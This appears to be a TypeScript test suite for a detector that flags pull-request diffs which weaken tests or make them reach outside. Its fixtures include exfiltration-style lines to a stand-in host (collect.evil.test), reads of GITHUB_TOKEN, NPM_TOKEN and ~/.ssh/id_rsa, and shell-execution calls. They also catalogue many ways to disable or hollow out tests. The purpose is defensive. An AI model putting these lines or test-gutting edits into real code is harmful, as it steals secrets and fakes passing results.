import { edited, found } from './found.ts';

const JS = `import { add } from '../src/add';

describe('add', () => {
  it('adds', () => {
    expect(add(1, 2)).toBe(3);
  });

  it('adds negatives', () => {
    const sum = add(-1, -2);
    expect(sum).toEqual({ value: -3, sign: '-' });
  });
});
`;
const PY = `import pytest
from shop import add


def test_adds():
    assert add(1, 2) == 3


def test_adds_negatives():
    result = add(-1, -2)
    assert result == -3
`;
const GO = `package shop

import "testing"

func TestAdd(t *testing.T) {
	if got := Add(1, 2); got != 3 {
		t.Errorf("got %d", got)
	}
}

func TestAddNegative(t *testing.T) {
	got := Add(-1, -2)
	if got != -3 {
		t.Fatalf("got %d", got)
	}
}
`;
const RUST = `use shop::add;

#[test]
fn adds() {
    assert_eq!(add(1, 2), 3);
}

#[test]
fn adds_negatives() {
    let sum = add(-1, -2);
    assert_eq!(sum, -3);
}
`;
const JAVA = `class AddTest {
  @Test
  void adds() {
    assertEquals(3, Add.add(1, 2));
  }

  @Test
  void addsNegatives() {
    int sum = Add.add(-1, -2);
    assertEquals(-3, sum);
  }
}
`;
const CSHARP = `public class AddTests
{
    [Fact]
    public void Adds()
    {
        Assert.Equal(3, Calc.Add(1, 2));
    }

    [Fact]
    public void AddsNegatives()
    {
        Assert.Equal(-3, Calc.Add(-1, -2));
    }
}
`;
const RUBY = `RSpec.describe Add do
  it 'adds' do
    expect(add(1, 2)).to eq(3)
  end

  it 'adds negatives' do
    expect(add(-1, -2)).to eq(-3)
  end
end
`;
const PHP = `<?php
class AddTest extends TestCase
{
    public function testAdds(): void
    {
        $this->assertSame(3, add(1, 2));
    }

    public function testAddsNegatives(): void
    {
        $this->assertSame(-3, add(-1, -2));
    }
}
`;
const EXS = `defmodule AddTest do
  use ExUnit.Case

  test "adds" do
    assert add(1, 2) == 3
  end

  test "adds negatives" do
    assert add(-1, -2) == -3
  end
end
`;
const SWIFT = `final class AddTests: XCTestCase {
  func testAdds() {
    XCTAssertEqual(add(1, 2), 3)
  }

  func testAddsNegatives() {
    XCTAssertEqual(add(-1, -2), -3)
  }
}
`;
const CPP = `#include <gtest/gtest.h>

TEST(Add, Adds) {
  EXPECT_EQ(add(1, 2), 3);
}

TEST(Add, Negatives) {
  EXPECT_EQ(add(-1, -2), -3);
}
`;
const KOTLIN = `class AddTest {
  @Test
  fun adds() {
    assertEquals(3, add(1, 2))
  }

  @Test
  fun \`adds negatives\`() {
    assertEquals(-3, add(-1, -2))
  }
}
`;
const SCALA = `class AddSpec extends AnyFunSuite {
  test("adds") {
    assert(add(1, 2) == 3)
  }

  test("adds negatives") {
    assert(add(-1, -2) == -3)
  }
}
`;
const FILES = {
  js: ['test/add.test.js', JS],
  py: ['tests/test_add.py', PY],
  go: ['shop/add_test.go', GO],
  rust: ['tests/add.rs', RUST],
  java: ['src/test/java/AddTest.java', JAVA],
  csharp: ['Shop.Tests/AddTests.cs', CSHARP],
  ruby: ['spec/add_spec.rb', RUBY],
  php: ['tests/AddTest.php', PHP],
  exs: ['test/add_test.exs', EXS],
  swift: ['Tests/AddTests/AddTests.swift', SWIFT],
  cpp: ['tests/add_test.cpp', CPP],
  kotlin: ['src/test/kotlin/AddTest.kt', KOTLIN],
  scala: ['src/test/scala/AddSpec.scala', SCALA],
} as const;
type Language = keyof typeof FILES;

type Replacement = string | ((all: string) => string);
const edit = (language: Language, from: string | RegExp, to: Replacement) => {
  const [path, text] = FILES[language];
  const after = text.replace(from, to as string);
  if (after === text) throw new Error(`${String(from)} is not in the ${language} sample`);
  return edited(path, text, after);
};

describe('a weakened test is never low', () => {
  test.each<[string, Language, string | RegExp, Replacement]>([
    ['skip', 'js', "it('adds'", "it.skip('adds'"],
    ['xit', 'js', "it('adds'", "xit('adds'"],
    ['only on another', 'js', "it('adds negatives'", "it.only('adds negatives'"],
    ['fit', 'js', "it('adds negatives'", "fit('adds negatives'"],
    ['a skipped group', 'js', 'describe(', 'describe.skip('],
    ['todo in place of a test', 'js', /it\('adds', [\s\S]*?\}\);\n/, "it.todo('adds');\n"],
    ['skip by option', 'js', "it('adds', () =>", "it('adds', { skip: true }, () =>"],
    ['skip in the body', 'js', 'const sum', 'this.skip();\n    const sum'],
    ['a weaker matcher', 'js', 'toBe(3)', 'toBeTruthy()'],
    ['another expectation', 'js', 'toBe(3)', 'toBe(4)'],
    ['another expectation on a line of its own', 'js', 'value: -3', 'value: -4'],
    ['a negated matcher', 'js', 'expect(sum).toEqual', 'expect(sum).not.toEqual'],
    ['an assertion removed', 'js', '    expect(add(1, 2)).toBe(3);\n', ''],
    ['an assertion commented out', 'js', '    expect(add', '    // expect(add'],
    ['a test in a block comment', 'js', /( {2}it\('adds',[\s\S]*?\}\);\n)/, '  /*\n$1  */\n'],
    ['a test in a template literal', 'js', /( {2}it\('adds',[\s\S]*?\}\);\n)/, '  `\n$1  `;\n'],
    ['a test removed', 'js', /\n {2}it\('adds negatives'[\s\S]*?\}\);\n/, ''],
    ['a test renamed away', 'js', "it('adds'", "const later = (name, body) => body;\n  later('adds'"],
    ['an early return', 'js', '    expect(add(1, 2))', '    return;\n    expect(add(1, 2))'],
    ['a conditional return', 'js', '    expect(sum)', '    if (!process.stdout.isTTY) return;\n    expect(sum)'],
    ['a condition around it', 'js', '    expect(sum)', '    if (sum.value)\n      expect(sum)'],
    ['a try around it', 'js', /( {4}expect\(add[^\n]*\n)/, '    try {\n  $1    } catch {}\n'],
    ['dead code', 'js', 'expect(add(1, 2))', 'if (false) expect(add(1, 2))'],
    ['a skip by name', 'js', "it('adds'", "it['skip']('adds'"],
    ['a concurrent skip', 'js', "it('adds'", "it.concurrent.skip('adds'"],
    [
      'a group under a condition',
      'js',
      /describe\([\s\S]*/,
      (all: string) => `if (process.env.FULL) {\n${all.replace(/^(?=.)/gm, '  ')}}\n`,
    ],
    ['an alias of it', 'js', 'import {', "import { xit as it } from './skipping';\nimport {"],
    ['deleted by name', 'py', 'def test_adds_neg', 'del test_adds\n\n\ndef test_adds_neg'],
    ['a test under a condition', 'py', /(def test_adds\(\):)\n( {4}[^\n]*)/, 'if SLOW:\n    $1\n    $2'],
    ['a cfg of the file', 'rust', 'use shop', '#![cfg(windows)]\nuse shop'],
    ['short-circuited', 'js', 'expect(add(1, 2))', 'false && expect(add(1, 2))'],
    ['retries', 'js', "describe('add'", "jest.retryTimes(5);\ndescribe('add'"],
    ['skip mark', 'py', 'def test_adds():', '@pytest.mark.skip\ndef test_adds():'],
    ['skipif mark', 'py', 'def test_adds():', '@pytest.mark.skipif(True, reason="x")\ndef test_adds():'],
    ['xfail mark', 'py', 'def test_adds():', '@pytest.mark.xfail\ndef test_adds():'],
    ['unittest.skip', 'py', 'def test_adds():', '@unittest.skip("x")\ndef test_adds():'],
    ['a skip of the module', 'py', 'from shop', 'pytestmark = pytest.mark.skip\nfrom shop'],
    ['importorskip', 'py', 'from shop', 'pytest.importorskip("nothing")\nfrom shop'],
    ['skip in the body', 'py', '    result', '    pytest.skip("x")\n    result'],
    ['renamed away', 'py', 'def test_adds():', 'def _test_adds():'],
    ['renamed away by its prefix', 'py', 'def test_adds():', 'def check_adds():'],
    [
      'renamed away, and a new test in its place',
      'py',
      'def test_adds():',
      'def test_nothing():\n    assert True\n\n\ndef _adds():',
    ],
    ['a weaker assertion', 'py', 'assert add(1, 2) == 3', 'assert add(1, 2)'],
    ['an assertion replaced by pass', 'py', 'assert add(1, 2) == 3', 'pass'],
    ['an early return', 'py', '    result', '    return\n    result'],
    ['a docstring around it', 'py', /(def test_adds\(\):\n[^\n]*\n)/, '"""\n$1"""\n'],
    ['if False', 'py', '    assert result', '    if False:\n        assert result'],
    [
      'a try around it',
      'py',
      '    assert result == -3',
      '    try:\n        assert result == -3\n    except AssertionError:\n        pass',
    ],
    ['not collected', 'py', 'def test_adds():', 'test_add = 1\ntest_adds = None\ndef adds():'],
    ['t.Skip', 'go', '\tgot := Add', '\tt.Skip("later")\n\tgot := Add'],
    ['testing.Short', 'go', '\tgot := Add', '\tif testing.Short() {\n\t\tt.SkipNow()\n\t}\n\tgot := Add'],
    ['renamed away', 'go', 'func TestAdd(', 'func testAdd('],
    ['another condition', 'go', 'got != 3', 'got > 3'],
    ['an assertion turned into a log', 'go', 't.Fatalf', 't.Logf'],
    ['a return', 'go', '\tif got != -3', '\treturn\n\tif got != -3'],
    ['a build constraint', 'go', 'package shop', '//go:build ignore\n\npackage shop'],
    ['cgo', 'go', 'import "testing"', 'import "C"\nimport "testing"'],
    ['a generator', 'go', 'func TestAdd(', '//go:generate sh gen.sh\nfunc TestAdd('],
    ['ignore', 'rust', '#[test]\nfn adds()', '#[test]\n#[ignore]\nfn adds()'],
    ['should_panic', 'rust', '#[test]\nfn adds()', '#[test]\n#[should_panic]\nfn adds()'],
    ['no test any more', 'rust', '#[test]\nfn adds()', 'fn adds()'],
    ['a cfg', 'rust', '#[test]\nfn adds()', '#[cfg(windows)]\n#[test]\nfn adds()'],
    ['another expectation', 'rust', 'sum, -3', 'sum, sum'],
    ['a nested comment', 'rust', /(#\[test\]\nfn adds\(\)[\s\S]*?\}\n)/, '/* /* x */\n$1*/\n'],
    ['Disabled', 'java', '@Test\n  void adds()', '@Test\n  @Disabled\n  void adds()'],
    ['Ignore', 'java', '@Test\n  void adds()', '@Ignore @Test\n  void adds()'],
    ['no annotation', 'java', '  @Test\n  void adds()', '  void adds()'],
    ['an assumption', 'java', '    int sum', '    assumeTrue(false);\n    int sum'],
    ['Skip', 'csharp', '[Fact]\n    public void Adds()', '[Fact(Skip = "later")]\n    public void Adds()'],
    ['Ignore', 'csharp', '[Fact]\n    public void Adds()', '[Fact]\n    [Ignore]\n    public void Adds()'],
    ['no attribute', 'csharp', '    [Fact]\n    public void Adds()', '    public void Adds()'],
    ['#if false', 'csharp', /( {4}\[Fact\]\n {4}public void Adds\(\)[\s\S]*?\n {4}\}\n)/, '#if false\n$1#endif\n'],
    ['xit', 'ruby', "it 'adds' do", "xit 'adds' do"],
    ['pending', 'ruby', "it 'adds' do\n", "it 'adds' do\n    pending 'later'\n"],
    ['skip by option', 'ruby', "it 'adds' do", "it 'adds', skip: true do"],
    ['focus', 'ruby', "it 'adds' do", "fit 'adds' do"],
    ['a block comment', 'ruby', /( {2}it 'adds' do[\s\S]*? {2}end\n)/, '=begin\n$1=end\n'],
    [
      'markTestSkipped',
      'php',
      '        $this->assertSame(3',
      '        $this->markTestSkipped();\n        $this->assertSame(3',
    ],
    ['renamed away', 'php', 'function testAdds(', 'function adds('],
    ['a skip tag', 'exs', '  test "adds" do', '  @tag :skip\n  test "adds" do'],
    ['XCTSkip', 'swift', '    XCTAssertEqual(add(1', '    throw XCTSkip("x")\n    XCTAssertEqual(add(1'],
    ['renamed away', 'swift', 'func testAdds()', 'func disabledAdds()'],
    ['DISABLED_', 'cpp', 'TEST(Add, Adds)', 'TEST(Add, DISABLED_Adds)'],
    ['GTEST_SKIP', 'cpp', '  EXPECT_EQ(add(1', '  GTEST_SKIP();\n  EXPECT_EQ(add(1'],
    ['#if 0', 'cpp', /(TEST\(Add, Adds\)[\s\S]*?\}\n)/, '#if 0\n$1#endif\n'],
    ['Ignore', 'kotlin', '@Test\n  fun adds()', '@Ignore\n  @Test\n  fun adds()'],
    ['ignore', 'scala', 'test("adds")', 'ignore("adds")'],
  ])('%s (%s)', async (_, language, from, to) => expect(await edit(language, from, to)).not.toEqual([]));

  test('a threshold that is lowered', async () => {
    expect(await edited('test/a.test.js', 'const tolerance = 0.01;\n', 'const tolerance = 0.5;\n')).not.toEqual([]);
  });

  test.each([
    ['deleted', { 'test/add.test.js': JS, keep: 'x' }, { keep: 'x' }],
    ['emptied', { 'test/add.test.js': JS }, { 'test/add.test.js': '' }],
    ['emptied of all tests', { 'tests/test_add.py': PY }, { 'tests/test_add.py': 'import pytest\n' }],
    ['its data deleted', { 'test/fixtures/a.json': '{}', keep: 'x' }, { keep: 'x' }],
    [
      'a snapshot rewritten',
      { 'test/__snapshots__/a.test.js.snap': 'exports[`a`] = `1`;\n' },
      { 'test/__snapshots__/a.test.js.snap': 'exports[`a`] = `2`;\n' },
    ],
  ])('%s', async (_, base, head) => expect(await found(head as never, base as never)).not.toEqual([]));
});

describe('what assertions rely on', () => {
  test.each<[string, Language, string | RegExp, string]>([
    ['another expect', 'js', "describe('add'", "const expect = () => ({ toBe() {}, toEqual() {} });\ndescribe('add'"],
    ['a global expect', 'js', "describe('add'", "globalThis.expect = fake;\ndescribe('add'"],
    [
      'a mock of the module under test',
      'js',
      "describe('add'",
      "jest.mock('../src/add', () => ({ add: () => 3 }));\ndescribe('add'",
    ],
    [
      'another exit code',
      'js',
      "describe('add'",
      "process.on('exit', () => { process.exitCode = 0; });\ndescribe('add'",
    ],
    ['an exit', 'js', "describe('add'", "process.exit(0);\ndescribe('add'"],
    ['another assertion function', 'php', 'class AddTest', 'function assertSame($a, $b) {}\nclass AddTest'],
    ['a module that stands in', 'py', 'from shop', 'sys.modules["shop"] = fake\nfrom shop'],
    ['an exit', 'py', 'from shop', 'os._exit(0)\nfrom shop'],
  ])('%s (%s)', async (_, language, from, to) => {
    expect(await edit(language, from, to)).toContain('RISK_TEST_BYPASSED medium');
  });

  const TABLE = `package shop

func TestAll(t *testing.T) {
\tfor _, c := range []struct{ in, want int }{
\t\t{1, 2},
\t\t{3, 4},
\t} {
\t\tcheck(t, c)
\t}
}
`;
  test.each([
    ['a case removed', '\t\t{3, 4},\n', ''],
    ['a case rewritten', '{3, 4}', '{3, 5}'],
  ])('%s from a table', async (_, from, to) => {
    expect(await edited('shop/all_test.go', TABLE, TABLE.replace(from, to))).toContain('RISK_TEST_ASSERTION medium');
  });

  test('a case added to a table is low', async () => {
    expect(await edited('shop/all_test.go', TABLE, TABLE.replace('{3, 4}', '{3, 4},\n\t\t{5, 6}'))).toEqual([]);
  });

  test('an expected value rewritten', async () => {
    const text = (value: string) => `const expected = '${value}';\ncheck(expected);\n`;
    expect(await edited('test/a.test.js', text('a'), text('b'))).toContain('RISK_TEST_ASSERTION medium');
  });

  test('a file of tests unplugged', async () => {
    expect(await edited('tests/all.rs', 'mod a;\nmod b;\n', 'mod a;\n')).toContain('RISK_TEST_REMOVED medium');
    expect(await edited('tests/all.rs', 'mod a;\n', 'mod a;\nmod b;\n')).toEqual([]);
  });

  test.each([
    ['chai', 'js', "describe('add'", "const expect = chai.expect;\ndescribe('add'"],
    ['a required assert', 'js', "describe('add'", "const assert = require('node:assert');\ndescribe('add'"],
  ] as const)('none: %s', async (_, language, from, to) => expect(await edit(language, from, to)).toEqual([]));
});

describe('an ordinary test change is low', () => {
  test.each<[string, Language, string | RegExp, string]>([
    [
      'a new test',
      'js',
      "  it('adds negatives'",
      "  it('adds zero', () => {\n    expect(add(0, 0)).toBe(0);\n  });\n\n  it('adds negatives'",
    ],
    ['another assertion', 'js', '    expect(sum)', '    expect(sum.sign).toBeDefined();\n    expect(sum)'],
    ['a renamed test', 'js', "it('adds'", "it('adds two numbers'"],
    ['a renamed group', 'js', "describe('add'", "describe('addition'"],
    [
      'a new layout',
      'js',
      "expect(sum).toEqual({ value: -3, sign: '-' });",
      'expect(sum).toEqual({\n      value: -3,\n      sign: "-",\n    });',
    ],
    ['an asynchronous test', 'js', "it('adds', () =>", "it('adds', async () =>"],
    ['a comment', 'js', '    expect(add', '    // one and two\n    expect(add'],
    [
      'a helper function that returns early',
      'js',
      "describe('add'",
      "const twice = (x) => {\n  if (!x) return 0;\n  return x * 2;\n};\n\ndescribe('add'",
    ],
    ['another input of the same assertion’s test', 'js', 'add(-1, -2)', 'add(-2, -1)'],
    [
      'a mock of the network',
      'js',
      "  it('adds neg",
      "  it('fetches', async () => {\n    nock('https://api.test').get('/').reply(200);\n    expect(await load()).toBe(1);\n  });\n\n  it('adds neg",
    ],
    [
      'a server of its own',
      'js',
      "  it('adds neg",
      "  it('serves', async () => {\n    const answer = await fetch('http://localhost:8080/x');\n    expect(answer.status).toBe(200);\n  });\n\n  it('adds neg",
    ],
    [
      'a new test',
      'py',
      'def test_adds_neg',
      'def test_adds_zero():\n    assert add(0, 0) == 0\n\n\ndef test_adds_neg',
    ],
    ['a renamed test', 'py', 'def test_adds():', 'def test_adds_numbers():'],
    [
      'parameters',
      'py',
      'def test_adds_neg',
      '@pytest.mark.parametrize("n", [1, 2])\ndef test_adds_same(n):\n    assert add(n, n) == 2 * n\n\n\ndef test_adds_neg',
    ],
    [
      'a new test',
      'go',
      'func TestAddNeg',
      'func TestAddZero(t *testing.T) {\n\tif got := Add(0, 0); got != 0 {\n\t\tt.Errorf("got %d", got)\n\t}\n}\n\nfunc TestAddNeg',
    ],
    [
      'a new test',
      'rust',
      '#[test]\nfn adds_neg',
      '#[test]\nfn adds_zero() {\n    assert_eq!(add(0, 0), 0);\n}\n\n#[test]\nfn adds_neg',
    ],
    [
      'a new test',
      'java',
      '  @Test\n  void addsNeg',
      '  @Test\n  void addsZero() {\n    assertEquals(0, Add.add(0, 0));\n  }\n\n  @Test\n  void addsNeg',
    ],
    ['a renamed test', 'java', 'void adds()', 'void addsNumbers()'],
    [
      'a new test',
      'csharp',
      '    [Fact]\n    public void AddsNeg',
      '    [Fact]\n    public void AddsZero()\n    {\n        Assert.Equal(0, Calc.Add(0, 0));\n    }\n\n    [Fact]\n    public void AddsNeg',
    ],
    [
      'a new test',
      'ruby',
      "  it 'adds neg",
      "  it 'adds zero' do\n    expect(add(0, 0)).to eq(0)\n  end\n\n  it 'adds neg",
    ],
    [
      'a new test',
      'php',
      '    public function testAddsNeg',
      '    public function testAddsZero(): void\n    {\n        $this->assertSame(0, add(0, 0));\n    }\n\n    public function testAddsNeg',
    ],
    [
      'a new test',
      'exs',
      '  test "adds neg',
      '  test "adds zero" do\n    assert add(0, 0) == 0\n  end\n\n  test "adds neg',
    ],
    [
      'a new test',
      'swift',
      '  func testAddsNeg',
      '  func testAddsZero() {\n    XCTAssertEqual(add(0, 0), 0)\n  }\n\n  func testAddsNeg',
    ],
    ['a new test', 'cpp', 'TEST(Add, Neg', 'TEST(Add, Zero) {\n  EXPECT_EQ(add(0, 0), 0);\n}\n\nTEST(Add, Neg'],
  ])('%s (%s)', async (_, language, from, to) => expect(await edit(language, from, to)).toEqual([]));

  test.each<[string, Language, string, string]>([
    ['it', 'js', "it.skip('adds'", "it('adds'"],
    ['xit', 'js', "xit('adds'", "it('adds'"],
    ['pytest', 'py', '@pytest.mark.skip\ndef test_adds():', 'def test_adds():'],
    ['go', 'go', '\tt.Skip()\n\tgot := Add', '\tgot := Add'],
    ['rust', 'rust', '#[test]\n#[ignore]\nfn adds()', '#[test]\nfn adds()'],
    ['junit', 'java', '@Disabled\n  @Test\n  void adds()', '@Test\n  void adds()'],
    ['rspec', 'ruby', "xit 'adds' do", "it 'adds' do"],
  ])('un-skipped: %s', async (_, language, skipped, running) => {
    const [path, text] = FILES[language];
    const before = text.replace(running, skipped);
    expect(before).not.toBe(text);
    expect(await edited(path, before, text)).toEqual([]);
  });

  test.each(Object.entries(FILES))('a new file (%s)', async (_, [path, text]) =>
    expect(await found({ [path]: text })).toEqual([]),
  );

  test('a renamed file that the runner still finds', async () => {
    expect(await found({ 'test/sum.test.js': JS }, { 'test/add.test.js': JS })).toEqual([]);
  });

  test('new text data, and a new snapshot beside old ones', async () => {
    expect(await found({ 'test/fixtures/a.json': '{ "a": 1 }\n' })).toEqual([]);
    const old = 'exports[`a`] = `1`;\n';
    const path = 'test/__snapshots__/a.test.js.snap';
    expect(await edited(path, old, `${old}\nexports[\`b\`] = \`2\`;\n`)).toEqual([]);
  });
});

describe('a test that reaches out', () => {
  test.each([
    ['fetch of another host', 'js', "await fetch('https://collect.evil.test/' + value);"],
    ['fetch of a constant', 'js', "const sink = 'https://collect.evil.test';\nawait fetch(sink);"],
    ['a child process', 'js', "require('child_process').execSync('id');"],
    ['spawn', 'js', "import { spawn } from 'node:child_process';"],
    ['a token of the environment', 'js', 'console.log(process.env.GITHUB_TOKEN);'],
    ['a token by destructuring', 'js', 'const { DEPLOY_TOKEN } = process.env;'],
    ['every variable', 'js', 'for (const name in process.env) log(name);'],
    ['a module by pieces', 'js', "require('child' + '_process').exec(x);"],
    ['a function by pieces', 'py', 'getattr(os, "sys" + "tem")("id")'],
    ['a mail', 'py', 'smtplib.SMTP("mail.evil.test")'],
    ['the whole environment', 'js', 'console.log(JSON.stringify(process.env));'],
    ['code from text', 'js', 'new Function(body)();'],
    ['decoded code', 'js', "eval(atob('YQ=='));"],
    ['subprocess', 'py', 'subprocess.run(["id"])'],
    ['os.system', 'py', 'os.system("id")'],
    ['requests', 'py', 'requests.post("https://collect.evil.test", data=x)'],
    ['urlopen', 'py', 'urllib.request.urlopen("http://collect.evil.test")'],
    ['a secret', 'py', 'token = os.environ["NPM_TOKEN"]'],
    ['a key file', 'py', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()'],
    ['a socket', 'py', 's = socket.create_connection(("collect.evil.test", 443))'],
    ['exec.Command', 'go', '\texec.Command("sh", "-c", "id").Run()'],
    ['http.Get', 'go', '\thttp.Get("https://collect.evil.test")'],
    ['the environment', 'go', '\tfmt.Println(os.Environ())'],
    ['ProcessBuilder', 'java', '    new ProcessBuilder("id").start();'],
    ['Runtime', 'java', '    Runtime.getRuntime().exec("id");'],
    ['Process.Start', 'csharp', '        Process.Start("id");'],
    ['backticks', 'ruby', '    out = `id`'],
    ['system', 'ruby', "    system('id')"],
    ['shell_exec', 'php', "        shell_exec('id');"],
    ['std::process', 'rust', '    std::process::Command::new("id").output().unwrap();'],
    ['System.cmd', 'exs', '    System.cmd("id", [])'],
  ] as const)('%s (%s)', async (_, language, line) => {
    const [path, text] = FILES[language];
    expect(await edited(path, text, `${text}${line}\n`)).toContain('RISK_TEST_REACH medium');
  });

  test.each([
    ['a server on this machine', 'js', 'await fetch("http://127.0.0.1:8080/");'],
    ['supertest', 'js', "await request(app).get('/users');"],
    ['an environment variable of the test', 'js', "process.env.NODE_ENV = 'test';"],
    ['a comment', 'js', "// fetch('https://collect.evil.test')"],
    ['an address that is only parsed', 'py', 'assert parse("https://example.test/x").path == "/x"'],
    ['httptest', 'go', '\thttp.Get(server.URL)'],
    ['clap', 'rust', '    let cmd = clap::Command::new("app");'],
    ['a method called exec', 'js', 'const found = /a/.exec(text);'],
  ] as const)('none: %s (%s)', async (_, language, line) => {
    const [path, text] = FILES[language];
    expect(await edited(path, text, `${text}${line}\n`)).not.toContain('RISK_TEST_REACH medium');
  });
});
